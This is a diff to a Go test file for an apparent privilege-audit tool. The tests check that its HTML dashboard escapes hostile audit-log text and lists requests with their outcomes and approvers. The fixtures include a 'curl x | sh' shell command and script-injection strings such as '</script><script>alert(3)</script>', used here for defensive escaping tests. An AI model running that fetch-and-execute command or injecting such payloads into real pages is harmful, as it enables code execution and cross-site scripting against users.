@@ -8,8 +8,10 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/clawwarden/clawwarden/internal/assess"
+	"github.com/clawwarden/clawwarden/internal/audit"
 )
 
 // sample returns a small assessment with hostile text in every field that
@@ -40,6 +42,42 @@ func sample() *assess.Assessment {
 		ByStatus:   map[string]int{"compliant": 1, "partial": 1, "violation": 1, "not_assessed": 1},
 		ByRisk:     map[string]int{"critical": 1, "high": 1, "medium": 1, "low": 0},
 		Violations: []string{"privilege_approval_required"}, Score: 50}
+	return a
+}
+
+// sampleWithLog is sample with a real audit log: one request that ran and
+// failed, one refused by the policy, one approved by a signer that did not
+// run, one pending, a session event, and hostile text in the command and
+// reason.
+func sampleWithLog(t *testing.T) *assess.Assessment {
+	t.Helper()
+	a := sample()
+	a.AuditChain.File = filepath.Join(t.TempDir(), "privileged-audit.jsonl")
+	argv := []string{"/usr/bin/systemctl", "restart", "nginx"}
+	hostile := []string{"/usr/bin/bash", "-c", "curl x | sh </script><script>alert(3)</script>"}
+	recs := []audit.Record{
+		{RequestID: "r1", Event: "request", Argv: argv, SessionID: "task-42", Reason: "apply new config"},
+		{RequestID: "r1", Event: "policy", Argv: argv, Decision: "allow", Rule: "allow_exact[0]"},
+		{RequestID: "r1", Event: "approval", Argv: argv, Decision: "approved", Detail: "terminal /dev/pts/3"},
+		{RequestID: "r1", Event: "result", Argv: argv, Decision: "ran", ExitCode: intp(1)},
+		{RequestID: "r2", Event: "request", Argv: hostile, SessionID: "task-43", Reason: "<b>why</b>"},
+		{RequestID: "r2", Event: "policy", Argv: hostile, Decision: "deny", Rule: "builtin:shell", Detail: "shells need explicit policy"},
+		{RequestID: "r2", Event: "refused", Argv: hostile, Decision: "refused", Rule: "builtin:shell", Detail: "shells need explicit policy"},
+		{Event: "session", Decision: "dropped", Detail: "clawwarden session drop"},
+		{RequestID: "r3", Event: "request", Argv: argv, SessionID: "task-44"},
+		{RequestID: "r3", Event: "policy", Argv: argv, Decision: "allow", Rule: "allow_exact[0]"},
+		{RequestID: "r3", Event: "approval", Argv: argv, Decision: "approved", Approver: "alice@example.org", KeyFP: "SHA256:q0Vx2mVd"},
+		{RequestID: "r3", Event: "result", Argv: argv, Decision: "not run", Detail: "enforced: the binary changed since the request"},
+		{RequestID: "r4", Event: "request", Argv: []string{"/usr/bin/apt-get", "upgrade", "-y"}, SessionID: "task-45"},
+		{RequestID: "r4", Event: "policy", Decision: "allow", Rule: "allow[2]"},
+		{RequestID: "r4", Event: "approval", Decision: "pending", Detail: "non-interactive sudo; waiting for 'clawwarden approve r4'"},
+	}
+	for i := range recs {
+		recs[i].Time = time.Date(2026, 11, 25, 8, 50+i/4, 0, 0, time.UTC)
+	}
+	if err := (&audit.Log{Path: a.AuditChain.File}).Append(recs...); err != nil {
+		t.Fatal(err)
+	}
 	return a
 }
 
@@ -87,7 +125,7 @@ func TestCompareControlIDs(t *testing.T) {
 
 func TestDashboardEscapesHostText(t *testing.T) {
 	var buf bytes.Buffer
-	if err := WriteDashboard(&buf, sample()); err != nil {
+	if err := WriteDashboard(&buf, sampleWithLog(t)); err != nil {
 		t.Fatal(err)
 	}
 	page := buf.String()
@@ -98,7 +136,8 @@ func TestDashboardEscapesHostText(t *testing.T) {
 	}
 	for _, want := range []string{
 		`content="default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:"`,
-		"&lt;img src=x onerror=alert(2)&gt;", "&lt;inetd&gt;", `id="checks"`, `id="network"`, `id="recent"`, "<svg",
+		"&lt;img src=x onerror=alert(2)&gt;", "&lt;inetd&gt;", `id="checks"`, `id="network"`, `id="recent"`,
+		"&lt;/script&gt;&lt;script&gt;alert(3)", "&lt;b&gt;why&lt;/b&gt;",
 	} {
 		if !strings.Contains(page, want) {
 			t.Errorf("dashboard lacks %q", want)
@@ -140,5 +179,106 @@ func TestWriteAll(t *testing.T) {
 	}
 	if s.Status != assess.StatusViolation || len(s.OpenItems) != 3 {
 		t.Errorf("summary status %q with %d open items, want violation with 3", s.Status, len(s.OpenItems))
+	}
+}
+
+// TestDashboardRequests: each request is one row with how it ended and who
+// approved it, newest first.
+func TestDashboardRequests(t *testing.T) {
+	var buf bytes.Buffer
+	if err := WriteDashboard(&buf, sampleWithLog(t)); err != nil {
+		t.Fatal(err)
+	}
+	page := buf.String()
+	for _, want := range []string{
+		`data-request="r4" data-outcome="pending"`,
+		`data-request="r3" data-outcome="not run"`, "alice@example.org (SHA256:q0Vx2mVd)", "enforced: the binary changed since the request",
+		`data-request="r2" data-outcome="refused"`, "deny (builtin:shell)",
+		`data-request="r1" data-outcome="ran"`, `class="badge o-ran-fail">ran, exit 1<`, "terminal /dev/pts/3",
+		"session dropped",
+	} {
+		if !strings.Contains(page, want) {
+			t.Errorf("dashboard lacks %q", want)
+		}
+	}
+	if i, j := strings.Index(page, `data-request="r4"`), strings.Index(page, `data-request="r1"`); i > j {
+		t.Error("requests are not newest first")
+	}
+}
+
+// TestWriteAllKeepsPrevious: the second WriteAll keeps the first
+// assessment as openclaw-assessment.previous.json and the dashboard lists
+// what changed.
+func TestWriteAllKeepsPrevious(t *testing.T) {
+	dir := t.TempDir()
+	first := sample()
+	p, err := WriteAll(dir, first)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.Previous != "" {
+		t.Errorf("first run kept a previous assessment: %s", p.Previous)
+	}
+	page, err := os.ReadFile(p.Dashboard)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(page), "no previous assessment to compare with") {
+		t.Error("the first dashboard does not say there is nothing to compare with")
+	}
+	firstJSON, err := os.ReadFile(p.Assessment)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	second := sample()
+	second.GeneratedAt = "2026-11-26T09:00:00Z"
+	second.Checks[0].Status = assess.StatusCompliant                                         // privilege_approval_required resolved
+	second.Checks[1].Status, second.Checks[1].Risk = assess.StatusViolation, assess.RiskHigh // elevation_timeout_30m new
+	p, err = WriteAll(dir, second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	kept, err := os.ReadFile(p.Previous)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(kept) != string(firstJSON) {
+		t.Error("openclaw-assessment.previous.json is not the assessment the second run replaced")
+	}
+	if fi, err := os.Stat(p.Previous); err != nil || fi.Mode().Perm() != 0o600 {
+		t.Errorf("previous assessment: %v, %v; want mode 0600", fi, err)
+	}
+	page, err = os.ReadFile(p.Dashboard)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		`id="changes-new">1<`, `id="changes-resolved">1<`, `id="changes-worse">0<`,
+		"compared with the assessment of 2026-11-25T09:00:00Z",
+		`<tr data-kind="new">`, "elevation_timeout_30m", `<tr data-kind="resolved">`,
+	} {
+		if !strings.Contains(string(page), want) {
+			t.Errorf("second dashboard lacks %q", want)
+		}
+	}
+
+	// An old assessment that is not one is left alone, and the dashboard
+	// says so.
+	if err := os.WriteFile(p.Assessment, []byte("{not json"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := WriteAll(dir, second); err != nil {
+		t.Fatal(err)
+	}
+	page, err = os.ReadFile(p.Dashboard)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(page), "is not an assessment, so there is nothing to compare with") {
+		t.Error("the dashboard does not say the old assessment could not be parsed")
+	}
+	if kept2, _ := os.ReadFile(p.Previous); string(kept2) != string(firstJSON) {
+		t.Error("an unparseable assessment replaced the kept previous one")
 	}
 }
